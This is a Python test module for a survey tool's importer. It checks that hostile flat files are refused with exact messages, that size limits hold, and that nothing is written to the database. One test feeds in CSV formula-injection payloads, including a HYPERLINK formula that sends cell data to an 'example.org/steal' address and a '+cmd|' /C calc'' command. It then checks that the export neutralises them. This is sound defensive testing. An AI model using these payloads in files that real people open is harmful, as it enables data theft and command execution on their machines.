"""Hostile flat files: each file of tests/data/bad is refused quickly, in its own words, and
leaves every row of every table as it was.

`tests/data/bad/expected.yaml` lists the files, what each is, and the problems its import must
list, exactly as the command line prints them. The ones too big to commit are built into
tmp_path by `tests/data/bad/make_corpus.py`. Each import goes into a wave that already holds
answers, with `replace`, so a half-written import could not hide.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import sqlite3
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
import yaml
from sqlalchemy import func, select
from sqlalchemy.engine import make_url
from sqlalchemy.orm import Session

import survey_cli
from db.engine import make_engine
from db.models import Answer
from flatfile import checker
from flatfile.table import UnreadableFile, read_table, write_table
from instrument.loader import instrument_named
from services.actor import Actor
from services.export import export_wave
from services.imports import ImportRefused, import_wave
from tests.conftest import (
    REPO,
    PostgresTestDatabase,
    all_rows,
    initialised_sqlite,
    table_checksums,
)
from tests.wave_builder import build_wave, changed, columns, csv_bytes, read_csv_rows, row_of

BAD = REPO / "tests" / "data" / "bad"
CORPUS: dict[str, dict] = yaml.safe_load((BAD / "expected.yaml").read_text(encoding="utf-8"))  # type: ignore[type-arg]
CORPUS_TOOLS = ("make_corpus.py", "expected.yaml", ".gitattributes")
IMPORTER = Actor("importer", "interviewer")  # imports write answers: an interviewer's act
WAVE = "2011"
# Any hostile file, on a busy shared machine: generous, yet far below what reading a 10 MB cell
# or 100,000 rows the slow way takes.
SECONDS = 5.0

_spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
make_corpus = importlib.util.module_from_spec(_spec)  # type: ignore[arg-type]
_spec.loader.exec_module(make_corpus)  # type: ignore[union-attr]


def corpus_file(name: str, folder: Path) -> Path:
    return make_corpus.make(name, folder) if CORPUS[name].get("generated") else BAD / name


@pytest.fixture(scope="module")
def imported_once() -> dict[str, object]:
    """Wave 2011 imported once per module and database kind (an import takes seconds): on
    SQLite the file, on PostgreSQL every row; each test gets a copy (see `answered`)."""
    return {}


def import_wave_2011(url: str) -> None:
    instrument = instrument_named("schedule_2011")
    data = csv_bytes(build_wave(instrument), columns(instrument))
    engine = make_engine(url)
    with Session(engine) as session:
        import_wave(session, actor=IMPORTER, wave_key=WAVE, data=data, filename="wave.csv")
    engine.dispose()


@pytest.fixture
def answered(
    database_url: str,
    imported_once: dict[str, object],
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Session]:
    """Wave 2011 as fieldwork leaves it: every council's row imported, answers in place."""
    if database_url.startswith("sqlite"):
        if "sqlite" not in imported_once:
            template: Path = request.getfixturevalue("sqlite_template")
            folder = tmp_path_factory.mktemp("answered")
            url = initialised_sqlite(template, folder / "wave.sqlite3")
            import_wave_2011(url)
            with closing(sqlite3.connect(folder / "wave.sqlite3")) as connection:
                connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # all in the one file
            imported_once["sqlite"] = folder / "wave.sqlite3"
        initialised_sqlite(imported_once["sqlite"], Path(make_url(database_url).database))  # type: ignore[arg-type]
        engine = make_engine(database_url)
    else:
        postgres: PostgresTestDatabase = request.getfixturevalue("postgres_database")
        engine = make_engine(database_url)
        if "postgresql" not in imported_once:
            postgres.initialise(engine)
            import_wave_2011(database_url)
            with engine.connect() as connection:
                imported_once["postgresql"] = all_rows(connection)
            postgres.empty()
        postgres.restore(engine, imported_once["postgresql"])  # type: ignore[arg-type]
    with Session(engine) as session:
        assert session.scalar(select(func.count()).select_from(Answer)), "the wave's answers"
        session.rollback()
        yield session
    engine.dispose()


# --- the corpus itself ------------------------------------------------------------------------


def test_corpus__at_least_25_files__each_on_disk_or_generated_and_each_with_its_message() -> None:
    on_disk = sorted(p.name for p in BAD.iterdir() if p.name not in CORPUS_TOOLS)
    committed = sorted(name for name, entry in CORPUS.items() if not entry.get("generated"))
    generated = sorted(name for name, entry in CORPUS.items() if entry.get("generated"))

    assert on_disk == committed
    assert generated == sorted(make_corpus.GENERATED)
    assert len(CORPUS) >= 25
    assert all(entry["problems"] and entry["about"] for entry in CORPUS.values())
    assert {Path(name).suffix for name in CORPUS} == {".csv", ".xlsx"}


# --- every file refused, in its own words, nothing written -------------------------------------


@pytest.mark.parametrize(
    "name",
    # every file on SQLite; on PostgreSQL too for those the command line also imports (the
    # checks themselves are pure, and tested for every file in tests/test_file_checks.py)
    [
        name if entry.get("cli") else pytest.param(name, marks=pytest.mark.sqlite_only)
        for name, entry in CORPUS.items()
    ],
)
def test_hostile_file__refused_quickly_with_every_problem__database_unchanged(
    answered: Session, tmp_path: Path, name: str
) -> None:
    path = corpus_file(name, tmp_path)
    before = table_checksums(answered)

    started = time.perf_counter()
    with pytest.raises(ImportRefused) as refused:
        import_wave(
            answered,
            actor=IMPORTER,
            wave_key=WAVE,
            data=path.read_bytes(),
            filename=path.name,
            replace=True,
        )
    seconds = time.perf_counter() - started

    assert [str(p) for p in refused.value.problems] == CORPUS[name]["problems"]
    assert seconds < SECONDS, f"{name} took {seconds:.1f} s to refuse"
    assert table_checksums(answered) == before, "a refused import changed the database"
    answered.rollback()
    assert table_checksums(answered) == before


@pytest.mark.usefixtures("cli_db")
@pytest.mark.parametrize("name", [name for name, entry in CORPUS.items() if entry.get("cli")])
def test_cli_import__hostile_file__exit_2_and_every_problem_on_stderr(
    answered: Session,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    name: str,
) -> None:
    """The command line's file is checked in a process of its own when large: here every
    file is, so each refusal is shown to come back from the child word for word (the test
    above checks each in the importing process)."""
    monkeypatch.setattr(checker, "APART_BYTES", 0)
    path = corpus_file(name, tmp_path)
    before = table_checksums(answered)
    answered.rollback()

    assert survey_cli.main(["import", str(path), "--wave", WAVE, "--replace"]) == 2

    out, err = capsys.readouterr()
    problems = CORPUS[name]["problems"]
    assert out == ""
    assert err.splitlines() == [
        f"error [import.refused]: {path.name}: import refused, nothing was written "
        f"({len(problems)} problem{'' if len(problems) == 1 else 's'}):",
        *(f"  - {p}" for p in problems),
    ]
    assert table_checksums(answered) == before


def test_flood_of_problems__first_100_listed__the_rest_counted(session: Session) -> None:
    data = (BAD / "every_cell_wrong.csv").read_bytes()

    with pytest.raises(ImportRefused) as refused:
        import_wave(session, actor=IMPORTER, wave_key=WAVE, data=data, filename="flood.csv")

    assert refused.value.total == 136
    assert len(refused.value.problems) == 101
    assert str(refused.value.problems[-1]) == (
        "… and 36 more problems not shown (136 in all); fix these and import again to see the rest"
    )


# --- limits: a file costs what a valid file can need, checked while it is read ----------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_read_table__header_at_the_column_limit_read__one_value_past_it_refused_by_place(
    fmt: str,
) -> None:
    header = [f"c{i}" for i in range(1, 6)]
    fits = write_table(header, [["a", "b", "c", "d", "e"]], fmt)  # type: ignore[arg-type]
    wide = write_table(header, [["a", "b", "c", "d", "e", "", "", "x"]], fmt)  # type: ignore[arg-type]

    assert read_table(fits, f"f.{fmt}", max_rows=10, max_columns=5).header == header
    with pytest.raises(UnreadableFile) as refused:
        read_table(wide, f"f.{fmt}", max_rows=10, max_columns=5)
    assert refused.value.where.row == 2
    assert str(refused.value) == (
        "row 2: there is a value ('x') in column H, but the survey's files have at most 5 "
        "columns; delete the columns after E"
    )


def test_read_csv__header_wider_than_allowed__refused_before_the_body_is_read() -> None:
    data = b"a,b,c,,,\r\n" + b'"never closed' + b"\r\n" * 1000

    with pytest.raises(UnreadableFile, match=r"the first row has 6 columns, but .* at most 5"):
        read_table(data, "f.csv", max_rows=10, max_columns=5)


def test_read_csv__blank_lines_do_not_count_as_rows_and_share_one_empty_row() -> None:
    data = b"a,b\r\n" + b"\r\n" * 15_000 + b"1,2\r\n"

    table = read_table(data, "f.csv", max_rows=1_000, max_columns=5)

    assert table.rows[-1] == ["1", "2"] and not table.more_rows
    assert len({id(row) for row in table.rows[:-1]}) == 1


def test_read_table__one_byte_over_the_size_limit__refused_unread() -> None:
    from flatfile.table import MAX_FILE_BYTES

    with pytest.raises(UnreadableFile, match="larger than 32 MB"):
        read_table(b"a" * (MAX_FILE_BYTES + 1), "f.csv", max_rows=10, max_columns=5)


# --- formulas: text in a free-text cell, refused anywhere else ---------------------------------


def test_formula_in_a_free_text_cell__kept_as_typed_and_exported_behind_an_apostrophe(
    session: Session,
) -> None:
    """A CSV written by a script has no protecting apostrophe. The cell is text all the same:
    nothing runs it here, and the export writes it so that no spreadsheet will either."""
    instrument = instrument_named("schedule_2011")
    payloads = {
        "q2_explain": '=HYPERLINK("http://example.org/steal?d="&A1,"Click for details")',
        "q4_influence_example": "+cmd|' /C calc'!A0",
        "q6_why_least": "-2+3",
        "q7_explain": "@SUM(A1:A2)",
        "interviewer": "=1+1",
    }
    angus = row_of(changed(build_wave(instrument), {"Angus": payloads}), "Angus")
    header = columns(instrument)
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([header, [angus[c] for c in header]])  # raw: no apostrophes at all

    import_wave(
        session, actor=IMPORTER, wave_key=WAVE, data=out.getvalue().encode(), filename="raw.csv"
    )

    exported = export_wave(
        session, actor=IMPORTER, include_unvalidated=True, wave_key=WAVE, fmt="csv"
    )
    raw_header, *raw_rows = csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""))
    written = dict(zip(raw_header, raw_rows[2], strict=True))
    assert {c: written[c] for c in payloads} == {c: "'" + v for c, v in payloads.items()}
    assert {c: row_of(read_csv_rows(exported), "Angus")[c] for c in payloads} == payloads
